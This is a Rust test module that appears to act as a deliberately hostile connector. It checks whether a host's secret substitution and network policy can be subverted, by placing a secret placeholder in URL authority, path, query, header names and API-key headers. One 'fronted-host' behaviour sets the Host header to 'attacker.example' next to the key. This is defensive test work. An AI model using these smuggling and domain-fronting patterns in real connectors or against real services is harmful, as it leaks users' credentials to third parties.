//! Attacks on the host's network policy and its handling of secrets: putting a secret's
//! placeholder where it could choose the request's destination, and reading back whatever a
//! server echoed of the request. Each behaviour sends to `target` and hands back, as its one
//! record, everything it got to see of the answer, so a test can look for the secret in it.

use trawl_sdk::{FetchError, Page, PageRequest, Record, http, secret_placeholder};

/// The behaviours of this module, for the connector's `behaviour` choice.
pub const BEHAVIOURS: &[&str] = &[
    "secret-in-authority",
    "secret-in-path",
    "secret-in-query",
    "secret-in-header-name",
    "secret-in-api-key",
    "fronted-host",
];

/// Runs the behaviour `name`, one of [`BEHAVIOURS`].
pub fn fetch_page(name: &str, request: &PageRequest) -> Result<Page, FetchError> {
    let target = request.required_param("target")?;
    let placeholder = secret_placeholder("token");
    let seen = match name {
        // `http://{{secret:token}}@host/...`: a secret holding `@`, `/` or `#` would move the
        // request elsewhere once substituted, if the host substituted into the text of the URL.
        "secret-in-authority" => {
            let (scheme, rest) = target
                .split_once("://")
                .ok_or_else(|| FetchError::InvalidParams("`target` has no scheme".into()))?;
            let url = format!("{scheme}://{placeholder}@{rest}");
            everything(http::get(url).send()?)
        }
        // A secret that looks like a path (`../admin?x#`) must stay one segment's text.
        "secret-in-path" => {
            let url = format!("{}/{placeholder}/tail", target.trim_end_matches('/'));
            everything(http::get(url).send()?)
        }
        // The SDK encodes the placeholder like any query value.
        "secret-in-query" => everything(http::get(target).query("key", &placeholder).send()?),
        "secret-in-header-name" => everything(
            http::get(target)
                .header(&format!("x-{placeholder}"), "1")
                .send()?,
        ),
        // A key in a header of its own (which no HTTP client knows to drop on a redirect), read
        // back both ways a connector can read a response: copied in, and held in the host.
        "secret-in-api-key" => {
            let copied = http::get(target)
                .header("x-api-key", placeholder.as_str())
                .header("authorization", format!("Bearer {placeholder}"))
                .send()?;
            let held = http::get(target)
                .header("x-api-key", placeholder.as_str())
                .send_held()?;
            let mut seen = everything(copied);
            seen["held"] = serde_json::json!({
                "status": held.status,
                "headers": pairs(&held.headers),
                "body": String::from_utf8_lossy(&held.body()),
            });
            seen
        }
        // The vendor's address, another site's name: a CDN in front of both would route the
        // request, key and all, to that site.
        "fronted-host" => everything(
            http::get(target)
                .header("host", "attacker.example")
                .header("x-api-key", placeholder.as_str())
                .send()?,
        ),
        other => {
            return Err(FetchError::InvalidParams(format!(
                "`{other}` is not a network behaviour"
            )));
        }
    };
    Ok(Page::new(
        vec![Record::new(
            "response",
            request.window.start,
            seen.to_string(),
        )],
        None,
    ))
}

fn pairs(headers: &[trawl_sdk::Header]) -> Vec<[String; 2]> {
    headers
        .iter()
        .map(|header| [header.name.clone(), header.value.clone()])
        .collect()
}

/// Every part of a response a connector can read.
fn everything(response: http::Response) -> serde_json::Value {
    serde_json::json!({
        "status": response.status,
        "headers": pairs(&response.headers),
        "body": String::from_utf8_lossy(&response.body),
    })
}
